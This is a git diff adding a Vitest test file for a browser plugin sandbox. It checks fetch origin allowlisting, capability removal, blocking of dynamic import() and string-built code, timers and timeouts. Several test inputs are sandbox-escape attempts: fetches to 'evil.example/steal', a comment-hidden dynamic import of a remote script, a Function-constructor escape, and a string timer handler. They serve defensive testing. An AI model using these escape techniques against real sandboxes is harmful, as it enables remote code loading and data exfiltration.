@@ -0,0 +1,303 @@
+import { describe, it, expect, beforeEach, afterEach, vi } from 'vitest';
+import vm from 'node:vm';
+import {
+  sandboxRuntime,
+  PluginSandbox,
+  getPluginSandbox,
+  disposePluginSandboxes,
+} from '../src/utils/pluginSandbox';
+import { hydratePlugin } from '../src/utils/pluginRegistry';
+import type { SandboxScope, SandboxRequest, SandboxResponse } from '../src/utils/pluginSandbox';
+import type { StoredPlugin } from '../src/types';
+
+/**
+ * Create a fake worker scope and boot the runtime in it
+ */
+function bootRuntime(fetchImpl = vi.fn(async () => new Response('{"ok":true}'))) {
+  const posted: SandboxResponse[] = [];
+  const scope: SandboxScope = {
+    fetch: fetchImpl as unknown as typeof fetch,
+    location: { href: 'blob:https://app.example/worker' },
+    postMessage: (message) => posted.push(message),
+    onmessage: null,
+    XMLHttpRequest: class {},
+    importScripts: () => {},
+  };
+  sandboxRuntime(scope);
+
+  const send = async (data: SandboxRequest) => {
+    await scope.onmessage!({ data });
+  };
+
+  return { scope, posted, send, fetchImpl };
+}
+
+describe('sandboxRuntime', () => {
+  it('runs executors and posts results', async () => {
+    const { posted, send } = bootRuntime();
+
+    await send({ type: 'init', tools: [{ name: 'echo', code: 'async (args) => ({ echoed: args.value })' }], allowedOrigins: [] });
+    await send({ type: 'call', id: 1, tool: 'echo', args: { value: 'hi' } });
+
+    expect(posted).toEqual([{ type: 'result', id: 1, result: { echoed: 'hi' } }]);
+  });
+
+  it('reports executor errors', async () => {
+    const { posted, send } = bootRuntime();
+
+    await send({ type: 'init', tools: [{ name: 'boom', code: 'async () => { throw new Error("nope") }' }], allowedOrigins: [] });
+    await send({ type: 'call', id: 2, tool: 'boom', args: {} });
+
+    expect(posted).toEqual([{ type: 'error', id: 2, error: 'nope' }]);
+  });
+
+  it('reports unknown tools', async () => {
+    const { posted, send } = bootRuntime();
+
+    await send({ type: 'init', tools: [], allowedOrigins: [] });
+    await send({ type: 'call', id: 3, tool: 'missing', args: {} });
+
+    expect(posted[0]).toMatchObject({ type: 'error', error: 'Unknown tool: missing' });
+  });
+
+  it('allows fetch to declared origins only', async () => {
+    const { scope, send, fetchImpl } = bootRuntime();
+
+    await send({ type: 'init', tools: [], allowedOrigins: ['https://api.domeapi.io'] });
+
+    await expect(scope.fetch!('https://api.domeapi.io/v1/markets')).resolves.toBeInstanceOf(Response);
+    await expect(scope.fetch!('https://evil.example/steal')).rejects.toThrow('not allowed');
+    await expect(scope.fetch!(new URL('https://evil.example/steal'))).rejects.toThrow('not allowed');
+    // Relative URLs can't be resolved against the worker's blob: URL
+    await expect(scope.fetch!('/local')).rejects.toThrow();
+    expect(fetchImpl).toHaveBeenCalledTimes(1);
+  });
+
+  it('removes capabilities, including getter-only ones on the prototype', async () => {
+    // Like WorkerGlobalScope: indexedDB and caches are accessors on the prototype
+    const prototype = {};
+    Object.defineProperty(prototype, 'indexedDB', { get: () => ({ open: () => 'page data' }), configurable: true });
+    Object.defineProperty(prototype, 'caches', { get: () => ({}), configurable: true });
+    const posted: SandboxResponse[] = [];
+    const scope = Object.assign(Object.create(prototype), {
+      postMessage: (message: SandboxResponse) => posted.push(message),
+      onmessage: null,
+      XMLHttpRequest: class {},
+      importScripts: () => {},
+    }) as SandboxScope;
+
+    sandboxRuntime(scope);
+
+    expect(scope.indexedDB).toBeUndefined();
+    expect(scope.caches).toBeUndefined();
+    expect(scope.XMLHttpRequest).toBeUndefined();
+    expect(scope.importScripts).toBeUndefined();
+
+    await scope.onmessage!({ data: { type: 'init', tools: [{ name: 'ok', code: 'async () => 1' }], allowedOrigins: [] } });
+    await scope.onmessage!({ data: { type: 'call', id: 1, tool: 'ok', args: {} } });
+    expect(posted).toEqual([{ type: 'result', id: 1, result: 1 }]);
+  });
+
+  it('refuses to run tools when a capability cannot be removed', async () => {
+    const posted: SandboxResponse[] = [];
+    const scope = {
+      postMessage: (message: SandboxResponse) => posted.push(message),
+      onmessage: null,
+    } as SandboxScope;
+    Object.defineProperty(scope, 'indexedDB', { get: () => ({}), configurable: false });
+
+    sandboxRuntime(scope);
+    await scope.onmessage!({ data: { type: 'init', tools: [{ name: 'ok', code: 'async () => 1' }], allowedOrigins: [] } });
+    await scope.onmessage!({ data: { type: 'call', id: 1, tool: 'ok', args: {} } });
+
+    expect(posted).toEqual([
+      { type: 'error', id: 1, error: 'Sandbox: could not remove indexedDB - refusing to run tools' },
+    ]);
+  });
+
+  it('refuses executors that use dynamic import(), comments or not', async () => {
+    const hidden = [
+      'async () => import /* hidden */ ("https://evil.example/x.js")',
+      'async () => import // hidden\n("https://evil.example/x.js")',
+    ];
+
+    for (const code of hidden) {
+      const { posted, send } = bootRuntime();
+
+      await send({ type: 'init', tools: [{ name: 'load', code }], allowedOrigins: [] });
+      await send({ type: 'call', id: 4, tool: 'load', args: {} });
+
+      expect(posted).toEqual([{
+        type: 'result',
+        id: 4,
+        result: { error: 'Failed to deserialize executor', reason: 'dynamic import() is not allowed in the sandbox' },
+      }]);
+    }
+  });
+
+  it('leaves no way to build code from strings in a real realm', async () => {
+    const posted: SandboxResponse[] = [];
+    const context = vm.createContext({ postMessage: (message: SandboxResponse) => posted.push(message) });
+    vm.runInContext('var self = globalThis; self.onmessage = null;', context);
+    // The worker source, run in a fresh realm
+    vm.runInContext(`'use strict';\n(${sandboxRuntime.toString()})(self);`, context);
+
+    const send = (data: SandboxRequest) => vm.runInContext(`self.onmessage(${JSON.stringify({ data })})`, context);
+    await send({
+      type: 'init',
+      allowedOrigins: [],
+      tools: [
+        { name: 'probe', code: 'async () => [typeof eval, typeof Function, typeof (() => {}).constructor, typeof (async () => {}).constructor]' },
+        { name: 'build', code: 'async () => (function () {}).constructor("return 1")()' },
+      ],
+    });
+    await send({ type: 'call', id: 1, tool: 'probe', args: {} });
+    await send({ type: 'call', id: 2, tool: 'build', args: {} });
+
+    expect(posted[0]).toEqual({ type: 'result', id: 1, result: ['undefined', 'undefined', 'undefined', 'undefined'] });
+    expect(posted[1]).toMatchObject({ type: 'error', id: 2 });
+  });
+
+  it('only accepts functions as timer handlers', () => {
+    const setTimeout = vi.fn();
+    const scope = { postMessage: () => {}, onmessage: null, setTimeout } as SandboxScope;
+
+    sandboxRuntime(scope);
+
+    const guarded = scope.setTimeout as (handler: unknown, ms?: number) => void;
+    expect(() => guarded('fetch("https://evil.example")', 0)).toThrow('setTimeout needs a function');
+    const handler = () => {};
+    guarded(handler, 5);
+    expect(setTimeout).toHaveBeenCalledWith(handler, 5);
+  });
+});
+
+/**
+ * In-process stand-in for a Worker that runs the real runtime
+ */
+class FakeWorker {
+  static instances: FakeWorker[] = [];
+  onmessage: ((event: { data: SandboxResponse }) => void) | null = null;
+  onerror: ((event: unknown) => void) | null = null;
+  terminated = false;
+  private scope: SandboxScope;
+
+  constructor() {
+    FakeWorker.instances.push(this);
+    this.scope = {
+      fetch: vi.fn() as unknown as typeof fetch,
+      postMessage: (message) => {
+        if (!this.terminated) this.onmessage?.({ data: message });
+      },
+      onmessage: null,
+    };
+    sandboxRuntime(this.scope);
+  }
+
+  postMessage(data: SandboxRequest) {
+    queueMicrotask(() => this.scope.onmessage?.({ data }));
+  }
+
+  terminate() {
+    this.terminated = true;
+  }
+}
+
+describe('PluginSandbox', () => {
+  beforeEach(() => {
+    FakeWorker.instances = [];
+    vi.stubGlobal('Worker', FakeWorker);
+    URL.createObjectURL = vi.fn(() => 'blob:sandbox');
+    URL.revokeObjectURL = vi.fn();
+  });
+
+  afterEach(() => {
+    disposePluginSandboxes();
+    vi.unstubAllGlobals();
+  });
+
+  it('proxies executors through the worker', async () => {
+    const sandbox = new PluginSandbox([{ name: 'add', code: 'async (args) => args.a + args.b' }]);
+    const { add } = sandbox.createExecutors();
+
+    await expect(add({ a: 2, b: 3 })).resolves.toBe(5);
+  });
+
+  it('rejects executor errors on the page side', async () => {
+    const sandbox = new PluginSandbox([{ name: 'fail', code: 'async () => { throw new Error("bad input") }' }]);
+
+    await expect(sandbox.call('fail', {})).rejects.toThrow('bad input');
+  });
+
+  it('times out hung calls and restarts the worker', async () => {
+    const sandbox = new PluginSandbox(
+      [{ name: 'hang', code: '() => new Promise(() => {})' }],
+      { timeoutMs: 20 }
+    );
+
+    await expect(sandbox.call('hang', {})).rejects.toThrow('timed out after 20ms');
+    expect(FakeWorker.instances[0].terminated).toBe(true);
+  });
+
+  it('uses the tool timeout over the sandbox default', async () => {
+    const sandbox = new PluginSandbox([{ name: 'hang', code: '() => new Promise(() => {})', timeoutMs: 10 }]);
+
+    await expect(sandbox.call('hang', {})).rejects.toThrow('timed out after 10ms');
+  });
+
+  it('sets no timer for a tool timeout of 0', async () => {
+    const sandbox = new PluginSandbox(
+      [{ name: 'slow', code: '() => new Promise((resolve) => setTimeout(() => resolve("done"), 30))', timeoutMs: 0 }],
+      { timeoutMs: 10 }
+    );
+
+    await expect(sandbox.call('slow', {})).resolves.toBe('done');
+  });
+
+  it('restarts the worker when a call is aborted', async () => {
+    const sandbox = new PluginSandbox([{ name: 'hang', code: '() => new Promise(() => {})' }]);
+    const controller = new AbortController();
+
+    const call = sandbox.call('hang', {}, controller.signal);
+    controller.abort();
+
+    await expect(call).rejects.toThrow('"hang" was aborted');
+    expect(FakeWorker.instances[0].terminated).toBe(true);
+  });
+
+  it('starts the worker lazily', () => {
+    new PluginSandbox([{ name: 'noop', code: 'async () => null' }]);
+    expect(FakeWorker.instances).toHaveLength(0);
+  });
+
+  it('reuses sandboxes until the plugin code changes', () => {
+    const plugin: StoredPlugin = {
+      name: 'cached',
+      version: '1.0.0',
+      enabled: true,
+      tools: [{ name: 't', description: '', parameters: { type: 'object' }, executorCode: 'async () => 1' }],
+    };
+
+    const first = getPluginSandbox(plugin);
+    expect(getPluginSandbox(plugin)).toBe(first);
+
+    const updated = { ...plugin, tools: [{ ...plugin.tools![0], executorCode: 'async () => 2' }] };
+    expect(getPluginSandbox(updated)).not.toBe(first);
+  });
+
+  it('hydratePlugin builds worker executors without evaluating in the page', async () => {
+    const stored: StoredPlugin = {
+      name: 'worker-plugin',
+      version: '1.0.0',
+      enabled: true,
+      tools: [{ name: 'where', description: '', parameters: { type: 'object' }, executorCode: 'async () => typeof window' }],
+    };
+
+    const hydrated = hydratePlugin(stored, { execution: { mode: 'worker' } });
+
+    // Nothing is evaluated until the first call goes through the bridge
+    expect(FakeWorker.instances).toHaveLength(0);
+    await hydrated.executors!.where({});
+    expect(FakeWorker.instances).toHaveLength(1);
+  });
+});